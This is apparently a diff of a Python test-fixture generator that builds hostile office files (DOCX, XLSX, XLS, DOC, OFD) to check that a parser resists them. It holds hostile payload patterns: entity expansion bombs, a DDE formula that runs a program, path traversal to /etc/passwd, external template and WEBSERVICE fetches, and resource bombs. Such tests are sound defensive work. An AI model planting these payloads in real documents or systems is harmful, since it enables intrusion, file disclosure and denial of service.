@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - a table of bytes reads better in long rows
 """Hostile office papers: DOCX, XLSX, XLS, DOC and OFD."""
 
 from __future__ import annotations
@@ -68,28 +69,87 @@ def _word() -> Iterator[Row]:
     said = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
 
     def changed(**more: bytes) -> bytes:
-        return package({**sound, **{k.replace("__", "/").replace("_xml", ".xml"): v for k, v in more.items()}})
+        return package(
+            {**sound, **{k.replace("__", "/").replace("_xml", ".xml"): v for k, v in more.items()}}
+        )
 
     for name, dtd in (("laughs", DTD), ("reads-our-file", SYSTEM), ("fetches", REMOTE)):
         content = _document(said.format("&a9;"), dtd)
-        yield f"entity-{name}.docx", package({**sound, main: content}), "damaged|ok|unsafe", "entities are not expanded"
-    yield "no-document.docx", package({k: v for k, v in sound.items() if k != main}), "damaged|unsupported", "a part is missing"
-    yield "no-types.docx", package({k: v for k, v in sound.items() if "Types" not in k}), "ok|damaged", "a part is missing"
-    yield "xml-bomb.docx", package({**sound, main: _document(" " * (120 << 20))}), ANY, "120 MB of blanks"
+        yield (
+            f"entity-{name}.docx",
+            package({**sound, main: content}),
+            "damaged|ok|unsafe",
+            "entities are not expanded",
+        )
+    yield (
+        "no-document.docx",
+        package({k: v for k, v in sound.items() if k != main}),
+        "damaged|unsupported",
+        "a part is missing",
+    )
+    yield (
+        "no-types.docx",
+        package({k: v for k, v in sound.items() if "Types" not in k}),
+        "ok|damaged",
+        "a part is missing",
+    )
+    yield (
+        "xml-bomb.docx",
+        package({**sound, main: _document(" " * (120 << 20))}),
+        ANY,
+        "120 MB of blanks",
+    )
     deep = "<w:tbl><w:tr><w:tc>" * 3000 + said.format("a") + "</w:tc></w:tr></w:tbl>" * 3000
     yield "tables-3000-deep.docx", package({**sound, main: _document(deep)}), ANY, "deeply nested"
     runs = said.format("字") * 150_000
-    yield "150000-paragraphs.docx", package({**sound, main: _document(runs)}), ANY, "a very long paper"
-    yield "half-xml.docx", package({**sound, main: sound[main][:600]}), "damaged", "the text breaks off"
+    yield (
+        "150000-paragraphs.docx",
+        package({**sound, main: _document(runs)}),
+        ANY,
+        "a very long paper",
+    )
+    yield (
+        "half-xml.docx",
+        package({**sound, main: sound[main][:600]}),
+        "damaged",
+        "the text breaks off",
+    )
     yield "noise.docx", package({**sound, main: bytes(range(256)) * 50}), "damaged", "no XML"
     rels = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
-    away = rels + b'<Relationship Id="r1" Type="%sattachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>' % kind
-    yield "fetches-template.docx", package({**sound, "word/_rels/document.xml.rels": away}), "ok|damaged", "never fetched"
-    out = rels + b'<Relationship Id="r1" Type="%simage" Target="../../../../etc/passwd"/></Relationships>' % kind
-    yield "picture-outside.docx", package({**sound, "word/_rels/document.xml.rels": out}), "ok|damaged", "leads out of the package"
-    own = rels + b'<Relationship Id="r1" Type="%sofficeDocument" Target="document.xml"/></Relationships>' % kind
-    yield "relation-in-a-circle.docx", package({**sound, "word/_rels/document.xml.rels": own}), "ok|damaged", "the paper holds itself"
+    away = (
+        rels
+        + b'<Relationship Id="r1" Type="%sattachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
+        % kind
+    )
+    yield (
+        "fetches-template.docx",
+        package({**sound, "word/_rels/document.xml.rels": away}),
+        "ok|damaged",
+        "never fetched",
+    )
+    out = (
+        rels
+        + b'<Relationship Id="r1" Type="%simage" Target="../../../../etc/passwd"/></Relationships>'
+        % kind
+    )
+    yield (
+        "picture-outside.docx",
+        package({**sound, "word/_rels/document.xml.rels": out}),
+        "ok|damaged",
+        "leads out of the package",
+    )
+    own = (
+        rels
+        + b'<Relationship Id="r1" Type="%sofficeDocument" Target="document.xml"/></Relationships>'
+        % kind
+    )
+    yield (
+        "relation-in-a-circle.docx",
+        package({**sound, "word/_rels/document.xml.rels": own}),
+        "ok|damaged",
+        "the paper holds itself",
+    )
     bomb = png(30_000, 30_000, b"\0" * (3_751 * 30_000))
     yield "picture-bomb.docx", _with_picture(bomb), ANY, "a picture of 900 megapixels"
     macro = {**sound, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 900}
@@ -122,19 +182,56 @@ def _excel() -> Iterator[Row]:
     yield "million-cells.xlsx", cells(wide), ANY, "a million cells, two filled"
     tall = "".join(one.format(n, "C") for n in range(1, 60_000))
     yield "60000-rows.xlsx", cells(tall), ANY, "a long list"
-    yield "entity-laughs.xlsx", cells("<row><c t='str'><v>&a9;</v></c></row>", dtd=DTD), ANY, "entities"
-    yield "entity-reads-our-file.xlsx", cells("<row><c t='str'><v>&a9;</v></c></row>", dtd=SYSTEM), ANY, "entities"
-    yield "no-sheet.xlsx", package({k: v for k, v in sound.items() if k != sheet}), ANY, "a part is missing"
-    yield "no-workbook.xlsx", package({k: v for k, v in sound.items() if k != "xl/workbook.xml"}), "damaged", "a part is missing"
-    yield "half-xml.xlsx", package({**sound, sheet: sound[sheet][:200]}), ANY, "the sheet breaks off"
+    yield (
+        "entity-laughs.xlsx",
+        cells("<row><c t='str'><v>&a9;</v></c></row>", dtd=DTD),
+        ANY,
+        "entities",
+    )
+    yield (
+        "entity-reads-our-file.xlsx",
+        cells("<row><c t='str'><v>&a9;</v></c></row>", dtd=SYSTEM),
+        ANY,
+        "entities",
+    )
+    yield (
+        "no-sheet.xlsx",
+        package({k: v for k, v in sound.items() if k != sheet}),
+        ANY,
+        "a part is missing",
+    )
+    yield (
+        "no-workbook.xlsx",
+        package({k: v for k, v in sound.items() if k != "xl/workbook.xml"}),
+        "damaged",
+        "a part is missing",
+    )
+    yield (
+        "half-xml.xlsx",
+        package({**sound, sheet: sound[sheet][:200]}),
+        ANY,
+        "the sheet breaks off",
+    )
     strings = f"<sst {ns}><si><t>{'x' * (100 << 20)}</t></si></sst>".encode()
-    yield "strings-bomb.xlsx", package({**sound, "xl/sharedStrings.xml": strings}), ANY, "100 MB of one text"
+    yield (
+        "strings-bomb.xlsx",
+        package({**sound, "xl/sharedStrings.xml": strings}),
+        ANY,
+        "100 MB of one text",
+    )
     merged = "".join(f'<mergeCell ref="A{n}:XFD{n + 900}"/>' for n in range(1, 900))
     more = f"<mergeCells>{merged}</mergeCells>"
-    yield "merged-over-all.xlsx", cells(one.format(1, "A"), more=more), ANY, "merged areas of 13 billion cells"
+    yield (
+        "merged-over-all.xlsx",
+        cells(one.format(1, "A"), more=more),
+        ANY,
+        "merged areas of 13 billion cells",
+    )
     dde = "<row r='1'><c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c><c r='B1'><f>WEBSERVICE(\"http://192.0.2.1\")</f></c></row>"
     yield "formula-runs-program.xlsx", cells(dde), "ok", "never run, never fetched"
-    index = '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" s="99999"><v>1e999</v></c></row>'
+    index = (
+        '<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" s="99999"><v>1e999</v></c></row>'
+    )
     yield "string-number-4-billion.xlsx", cells(index), ANY, "a text that is not there"
     book = openpyxl.Workbook()
     for n in range(1500):
@@ -169,19 +266,44 @@ def _ofd() -> Iterator[Row]:
         '<ofd:TextObject ID="9" Boundary="20 20 90 9" Font="3" Size="4"><ofd:TextCode X="0" Y="4" '
         'DeltaX="g 5 4">{}</ofd:TextCode></ofd:TextObject>'
     )
-    yield "entity-laughs.ofd", _layout(word.format("&a9;"), dtd=DTD), "damaged|unsafe|ok", "entities"
+    yield (
+        "entity-laughs.ofd",
+        _layout(word.format("&a9;"), dtd=DTD),
+        "damaged|unsafe|ok",
+        "entities",
+    )
     yield "entity-reads-our-file.ofd", _layout(dtd=SYSTEM), "damaged|unsafe|ok", "entities"
-    yield "page-outside.ofd", _layout(page="../../../../etc/passwd"), ANY, "leads out of the package"
+    yield (
+        "page-outside.ofd",
+        _layout(page="../../../../etc/passwd"),
+        ANY,
+        "leads out of the package",
+    )
     yield "no-page.ofd", _layout(page="Pages/P9/Content.xml"), ANY, "a part is missing"
     yield "no-document.ofd", _layout(root="Doc_9/Document.xml"), "damaged", "a part is missing"
-    yield "absurd-box.ofd", _layout(word.format("一二三四五六"), box="0 0 1e9 1e9"), ANY, "a page of 1,000 km"
+    yield (
+        "absurd-box.ofd",
+        _layout(word.format("一二三四五六"), box="0 0 1e9 1e9"),
+        ANY,
+        "a page of 1,000 km",
+    )
     yield "zero-box.ofd", _layout(word.format("一二三四五六"), box="0 0 0 0"), ANY, "no size"
-    yield "nan-box.ofd", _layout(word.format("一二三四五六"), box="nan inf -inf 1"), ANY, "no numbers"
+    yield (
+        "nan-box.ofd",
+        _layout(word.format("一二三四五六"), box="nan inf -inf 1"),
+        ANY,
+        "no numbers",
+    )
     yield "60000-texts.ofd", _layout(word.format("一") * 60_000), ANY, "letters one by one"
     listed = "".join(f'<ofd:Page ID="{n}" BaseLoc="Pages/P0/Content.xml"/>' for n in range(9_000))
     yield "9000-pages.ofd", _layout(pages=listed), "unsafe", "one page 9,000 times"
     own = '<ofd:TemplatePage ID="7" BaseLoc="Pages/P0/Content.xml"/>'
-    yield "template-in-itself.ofd", _layout('<ofd:Template TemplateID="7"/>' + word.format("一二"), common=own), ANY, "a circle"
+    yield (
+        "template-in-itself.ofd",
+        _layout('<ofd:Template TemplateID="7"/>' + word.format("一二"), common=own),
+        ANY,
+        "a circle",
+    )
     deep = '<ofd:PageBlock ID="4">' * 5_000 + "</ofd:PageBlock>" * 5_000
     yield "blocks-5000-deep.ofd", _layout(deep), ANY, "deeply nested"
     bomb = {"Doc_0/Res/a.png": png(30_000, 30_000, b"\0" * (3_751 * 30_000))}
@@ -198,12 +320,20 @@ def _ofd() -> Iterator[Row]:
 
 
 def _old() -> Iterator[Row]:
-    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
+    head = (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + b"\0" * 16
+        + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
+    )
     ole = (head + struct.pack("<10xIIIIIIIII", 1, 0, 0, 4096, 0, 0, 0, 0, 0)).ljust(512, b"\0")
 
     def entry(name: str, kind: int, start: int, size: int) -> bytes:
         raw = name.encode("utf-16-le") + b"\0\0"
-        body = raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1) + struct.pack("<III", 0, 0, 0)
+        body = (
+            raw.ljust(64, b"\0")
+            + struct.pack("<HBB", len(raw), kind, 1)
+            + struct.pack("<III", 0, 0, 0)
+        )
         return body.ljust(116, b"\0") + struct.pack("<IQ", start, size)
 
     def made(name: str, loop: bytes = b"\0\0\0\0") -> bytes:
@@ -211,7 +341,22 @@ def _old() -> Iterator[Row]:
         return ole + folder.ljust(512, b"\0") + loop * 128 + b"\x77" * 4096
 
     yield "locked.docx", made("EncryptedPackage"), "encrypted", "Office's own password"
-    yield "tables-in-a-circle.xls", made("Workbook"), "damaged|unsupported|ok", "sectors lead to themselves"
-    yield "tables-in-a-circle.doc", made("WordDocument"), "damaged|unsupported|ok", "sectors lead to themselves"
+    yield (
+        "tables-in-a-circle.xls",
+        made("Workbook"),
+        "damaged|unsupported|ok",
+        "sectors lead to themselves",
+    )
+    yield (
+        "tables-in-a-circle.doc",
+        made("WordDocument"),
+        "damaged|unsupported|ok",
+        "sectors lead to themselves",
+    )
     yield "head-only.xls", ole, "damaged|unsupported", "nothing but the head"
-    yield "sector-noise.doc", ole + bytes(range(256)) * 60, "damaged|unsupported", "a head and noise"
+    yield (
+        "sector-noise.doc",
+        ole + bytes(range(256)) * 60,
+        "damaged|unsupported",
+        "a head and noise",
+    )
